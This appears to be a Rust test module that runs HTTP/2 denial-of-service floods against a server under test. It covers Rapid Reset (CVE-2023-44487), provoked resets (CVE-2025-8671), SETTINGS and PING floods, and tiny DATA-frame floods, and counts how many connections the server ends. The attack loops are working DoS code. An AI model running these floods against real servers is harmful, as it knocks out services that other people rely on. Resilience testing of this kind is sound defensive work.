//! Floods of frames that cost the sender nothing.

use std::time::{Duration, Instant};

use bytes::BytesMut;
use varco_tests::h2raw::{Raw, call, flag, frame, kind};

use super::{Attacker, ECHO, WAIT};

/// CVE-2023-44487: streams that are opened and reset at once, with a voucher and without one.
pub(super) async fn rapid_reset(by: Attacker, end: Instant) -> String {
    let bearer = by.bearer();
    let refused = call(ECHO, &[]);
    let served = call(WAIT, &[("authorization", &bearer)]);
    let (mut resets, mut ends) = (0, 0);
    let mut connections = 0;
    while Instant::now() < end {
        connections += 1;
        let block = if connections % 2 == 0 {
            &served
        } else {
            &refused
        };
        let mut raw = by.connect().await;
        for batch in 0..BATCHES {
            let mut bytes = BytesMut::new();
            for place in 0..BATCH {
                let stream = 2 * (batch * BATCH + place) + 1;
                bytes.extend(frame(kind::HEADERS, flag::END_HEADERS, stream, block));
                bytes.extend(frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            let over = raw.write(&bytes).await.is_err() || raw.is_over().await;
            resets += BATCH;
            if over || Instant::now() >= end {
                ends += u32::from(over);
                break;
            }
        }
    }
    format!("{resets} resets over {connections} connections, of which {ends} ended")
}

/// CVE-2025-8671: what makes the server reset streams itself.
pub(super) async fn provoked_resets(by: Attacker, end: Instant) -> String {
    let bearer = by.bearer();
    let block = call(WAIT, &[("authorization", &bearer)]);
    let (mut provoked, mut ends) = (0, 0);
    while Instant::now() < end {
        let mut raw = by.connect().await;
        for number in 0..1000_u32 {
            let stream = 2 * number + 1;
            let mut bytes = BytesMut::new();
            let last = if number % 3 == 1 { flag::END_STREAM } else { 0 };
            let flags = flag::END_HEADERS | last;
            bytes.extend(frame(kind::HEADERS, flags, stream, &block));
            bytes.extend(match number % 3 {
                0 => frame(kind::WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
                1 => frame(kind::DATA, 0, stream, b"after the end"),
                _ => frame(
                    kind::WINDOW_UPDATE,
                    0,
                    stream,
                    &0x7fff_ffff_u32.to_be_bytes(),
                ),
            });
            provoked += 1;
            if raw.write(&bytes).await.is_err() || raw.is_over().await {
                ends += 1;
                break;
            }
        }
    }
    assert!(ends > 0, "{provoked} resets and no end");
    format!("{provoked} provoked, {ends} connections ended")
}

/// SETTINGS that must each be acknowledged, to a server whose acknowledgements are not read.
pub(super) async fn settings(by: Attacker, end: Instant) -> String {
    // SETTINGS_ENABLE_PUSH, off.
    let one = frame(kind::SETTINGS, 0, 0, &[0, 2, 0, 0, 0, 0]);
    flood(&by, end, &one).await
}

/// PINGs that must each be answered, to a server whose answers are not read.
pub(super) async fn pings(by: Attacker, end: Instant) -> String {
    let one = frame(kind::PING, 0, 0, b"12345678");
    flood(&by, end, &one).await
}

/// The same frame again and again: on half of the connections whatever comes back is read.
async fn flood(by: &Attacker, end: Instant, one: &[u8]) -> String {
    let many = one.repeat(64);
    let (mut sent, mut connections) = (0, 0);
    while Instant::now() < end {
        let mut raw = by.connect().await;
        connections += 1;
        let reads = connections % 2 == 0;
        let until = end.min(Instant::now() + Duration::from_millis(500));
        while Instant::now() < until {
            let left = until.saturating_duration_since(Instant::now());
            let Ok(Ok(())) = tokio::time::timeout(left, raw.write(&many)).await else {
                break;
            };
            sent += 64;
            if reads {
                read_some(&mut raw).await;
            }
        }
    }
    format!("{sent} frames over {connections} connections")
}

async fn read_some(raw: &mut Raw) {
    for _ in 0..64 {
        let read = tokio::time::timeout(Duration::from_millis(5), raw.next()).await;
        if !matches!(read, Ok(Some(_))) {
            return;
        }
    }
}

/// DATA frames without a byte, and with one, of a message that is never whole.
pub(super) async fn tiny_data(by: Attacker, end: Instant) -> String {
    let bearer = by.bearer();
    let block = call("/eco.v1.EcoService/Collect", &[("authorization", &bearer)]);
    let (mut sent, mut ends, mut connections) = (0, 0, 0);
    while Instant::now() < end {
        let mut raw = by.connect().await;
        connections += 1;
        raw.open(1, &block, false).await.unwrap();
        // The head of a message of a mebibyte.
        raw.send(kind::DATA, 0, 1, &[0, 0, 16, 0, 0]).await.unwrap();
        let payload: &[u8] = if connections % 2 == 0 { b"x" } else { b"" };
        let many = frame(kind::DATA, 0, 1, payload).repeat(64);
        let until = end.min(Instant::now() + Duration::from_millis(700));
        while Instant::now() < until {
            let left = until.saturating_duration_since(Instant::now());
            let Ok(Ok(())) = tokio::time::timeout(left, raw.write(&many)).await else {
                break;
            };
            sent += 64;
            if raw.is_over().await {
                ends += 1;
                break;
            }
        }
    }
    format!("{sent} frames over {connections} connections, of which {ends} ended")
}

/// Streams that are opened and reset in one write, and writes on one connection.
const BATCH: u32 = 50;
const BATCHES: u32 = 100;
